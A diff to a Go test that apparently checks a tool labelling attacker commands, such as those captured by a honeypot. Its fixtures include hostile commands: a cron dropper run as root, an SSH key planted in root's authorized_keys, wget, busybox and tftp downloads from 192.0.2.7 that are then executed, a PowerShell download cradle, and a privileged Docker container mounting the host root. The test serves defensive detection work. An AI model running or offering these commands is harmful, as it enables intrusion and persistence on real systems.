@@ -171,6 +171,8 @@ func TestNotes(t *testing.T) {
 		"cd /tmp; chattr -ia /etc/crontab":                                              "locks or unlocks against change: /etc/crontab",
 		"cd /root; echo ssh-rsa AAAAB3Nz > .ssh/authorized_keys":                        "SSH key written to .ssh/authorized_keys",
 		"cd /; echo " + b64("* * * * * root "+dropper+"\n") + "|base64 -d>/etc/crontab": "to be run by cron as root",
+		"cd /tmp; wget http://192.0.2.7/x -O -> /tmp/t;sh /tmp/t'":                      "] wget http://192.0.2.7/x -O - > /tmp/t",
+		"/bin/busybox wget -g 192.0.2.7 -l /tmp/h -r /mips; /tmp/h":                     "downloads 192.0.2.7",
 		"tftp -g -r x 192.0.2.7":                                                        "downloads with tftp",
 		"powershell -enc " + wide("IEX (New-Object Net.WebClient)"):                     "base64 of UTF-16LE given to powershell",
 		post("application/json", `{"Image":"alpine","Env":["A=b"],"HostConfig":{"Privileged":true,"Binds":["/:/mnt"]}}`): "container from image alpine; privileged; mounts /:/mnt; environment A=b",
